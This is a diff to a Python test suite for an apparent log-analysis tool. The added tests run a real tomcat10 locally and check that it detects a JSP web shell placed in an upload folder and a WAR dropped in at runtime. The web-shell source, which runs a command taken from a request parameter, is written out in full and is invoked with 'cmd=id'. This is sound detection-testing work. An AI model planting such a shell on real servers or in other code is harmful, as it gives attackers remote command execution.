@@ -1,7 +1,7 @@
 """Web server error logs (stream ``web_errors``) and access logs: parsed from logs written by the real nginx
-and PHP-FPM and by the real apache2 2.4 with mod_php (each started on a loopback port with a config in a
-temporary directory, no service started), and from apache 2.2, PHP and tomcat lines written in their
-documented formats."""
+and PHP-FPM, by the real apache2 2.4 with mod_php and by the real tomcat10 (10.1; each started on a loopback
+port with a config in a temporary directory, no service started), and from apache 2.2, PHP and older tomcat
+lines written in their documented formats."""
 
 from __future__ import annotations
 
@@ -15,6 +15,7 @@ import subprocess
 import time
 import urllib.error
 import urllib.request
+import zipfile
 from pathlib import Path
 
 from conftest import need
@@ -559,3 +560,106 @@ def test_real_apache_ordinary_site_is_quiet(tmp_path):
     web, _ = collect(root, "web")
     assert sorted(r["status"] for r in web if r["kind"] == "request") == [200, 200, 200, 404, 404]
     assert access_findings(web) == {}
+
+
+# ---- real tomcat 10.1 ---------------------------------------------------------------------------------
+
+TOMCAT_HOME = "/usr/share/tomcat10"  # Debian tomcat10 (10.1; a JRE: openjdk-17-jre-headless)
+TOMCAT_CONF = "/etc/tomcat10"
+
+
+def tomcat(tmp: Path, requests: list[str], war_after_start: bool = False) -> tuple[Path, dt.datetime]:
+    """An evidence root whose /var/log/tomcat10 was written by Debian's tomcat10 run by hand: its own
+    CATALINA_BASE (the package's conf, HTTP on 127.0.0.1 and a free port, no shutdown port, the host's
+    auto-deploy check every second), logs in the root's /var/log/tomcat10 as Debian links them, TZ Berlin.
+    Start-up to the first answered JSP takes about 3 s here."""
+    java = shutil.which("java")
+    need(os.path.exists(f"{TOMCAT_HOME}/bin/bootstrap.jar") and java is not None,
+         "tomcat10 and a JRE (apt-get install tomcat10 openjdk-17-jre-headless)")
+    root, base = tmp / "root", tmp / "root/var/lib/tomcat10"
+    logs_dir = root / "var/log/tomcat10"
+    logs_dir.mkdir(parents=True)
+    zone(root, "Europe/Berlin")
+    shutil.copytree(TOMCAT_CONF, base / "conf", symlinks=False)
+    (base / "logs").symlink_to(logs_dir)  # /var/lib/tomcat10/logs -> /var/log/tomcat10, as the package has it
+    for folder in ("work", "temp", "webapps/ROOT/uploads/avatar"):
+        (base / folder).mkdir(parents=True, exist_ok=True)
+    (base / "webapps/ROOT/index.jsp").write_text('<% out.println("ok"); %>\n')
+    # the JSP web shell: runs the command it is sent (then fails, so that tomcat logs the JSP by name)
+    (base / "webapps/ROOT/uploads/avatar/cmd.jsp").write_text(
+        '<% String c = request.getParameter("cmd"); if (c != null) { Runtime.getRuntime().exec(new String[]{c}); }'
+        ' String s = null; s.length(); %>\n')
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        port = s.getsockname()[1]
+    server = (base / "conf/server.xml").read_text()
+    server = server.replace('<Server port="8005"', '<Server port="-1"')
+    server = server.replace('<Connector port="8080"', f'<Connector port="{port}" address="127.0.0.1"')
+    server = server.replace('<Engine name="Catalina" defaultHost="localhost">',
+                            '<Engine name="Catalina" defaultHost="localhost" backgroundProcessorDelay="1">')
+    assert f'port="{port}"' in server and 'backgroundProcessorDelay="1"' in server
+    (base / "conf/server.xml").write_text(server)
+    env = dict(os.environ, TZ="Europe/Berlin")
+    started = dt.datetime.now(dt.UTC)
+    proc = subprocess.Popen([java, f"-Dcatalina.base={base}", f"-Dcatalina.home={TOMCAT_HOME}",
+                             f"-Djava.io.tmpdir={base}/temp", "-Xshare:auto", "-XX:TieredStopAtLevel=1",
+                             f"-Djava.util.logging.config.file={base}/conf/logging.properties",
+                             "-Djava.util.logging.manager=org.apache.juli.ClassLoaderLogManager",
+                             "-cp", f"{TOMCAT_HOME}/bin/bootstrap.jar:{TOMCAT_HOME}/bin/tomcat-juli.jar",
+                             "org.apache.catalina.startup.Bootstrap", "start"], env=env, cwd=base,
+                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
+    try:
+        deadline = time.monotonic() + 40
+        while True:
+            assert time.monotonic() < deadline, "tomcat did not answer"
+            assert proc.poll() is None, "tomcat exited"
+            try:
+                urllib.request.urlopen(f"http://127.0.0.1:{port}/index.jsp", timeout=5).read()
+                break
+            except (urllib.error.URLError, ConnectionError, OSError):
+                time.sleep(0.1)
+        for path in requests:
+            try:
+                urllib.request.urlopen(f"http://127.0.0.1:{port}{path}", timeout=20).read()
+            except urllib.error.HTTPError:
+                pass
+        if war_after_start:  # dropped into webapps while running: the host's background check deploys it
+            with zipfile.ZipFile(base / "webapps/status.war.tmp", "w") as war:
+                war.writestr("index.jsp", '<% out.println("status"); %>\n')
+            os.rename(base / "webapps/status.war.tmp", base / "webapps/status.war")
+            while "status.war] has finished" not in "".join(p.read_text() for p in logs_dir.glob("catalina.*")):
+                assert time.monotonic() < deadline + 20, "tomcat did not deploy the dropped WAR"
+                time.sleep(0.2)
+    finally:
+        proc.terminate()  # tomcat's shutdown hook stops the connector and closes (flushes) its logs
+        try:
+            proc.wait(20)
+        except subprocess.TimeoutExpired:
+            proc.kill()
+            proc.wait()
+    return root, started
+
+
+def test_real_tomcat_logs(tmp_path):
+    """Debian's tomcat10 wrote catalina, localhost and access logs: start-up (its ROOT application deployed
+    by the main thread: quiet), a page, a 404, a JSP web shell in an upload folder run with a command (it
+    fails, so tomcat names it: TRI-WEBERR-005), and a WAR dropped into webapps while it runs (deployed by a
+    background thread: TRI-WEBERR-006). Nothing else raises a finding; times come back in UTC."""
+    root, started = tomcat(tmp_path, ["/missing.jsp", "/uploads/avatar/cmd.jsp?cmd=id"], war_after_start=True)
+    records, problems = collect(root)
+    assert not [p for p in problems if p.level == "error"], problems
+    tc = errors(records, "tomcat")
+    assert tc and all(_near(r["time_utc"], started) for r in tc)
+    assert any(r.get("deployed", "").endswith("/webapps/ROOT") or r["thread"] == "main" for r in tc)
+    shell = [r for r in tc if r.get("jsp_compile") and "cmd.jsp" in r["message"]]
+    assert shell and shell[0]["level"] == "error", [r["message"][:200] for r in tc if r["level"] == "error"]
+    found = findings(records)
+    assert set(found) == {"TRI-WEBERR-005", "TRI-WEBERR-006"}, {k: [f["summary"] for f in v] for k, v in found.items()}
+    assert [f["deployed"] for f in found["TRI-WEBERR-006"]] == [str(root / "var/lib/tomcat10/webapps/status.war")]
+    files = {r["path"] for r in records if r["kind"] == "log_file"}
+    assert any(p.startswith("/var/log/tomcat10/catalina.") for p in files)
+    assert any(p.startswith("/var/log/tomcat10/localhost.") for p in files)
+    web, _ = collect(root, "web")
+    requests = {r["path"]: r for r in web if r["kind"] == "request"}
+    assert requests["/missing.jsp"]["status"] == 404 and requests["/uploads/avatar/cmd.jsp"]["status"] == 500
+    assert _near(requests["/index.jsp"]["time_utc"], started)
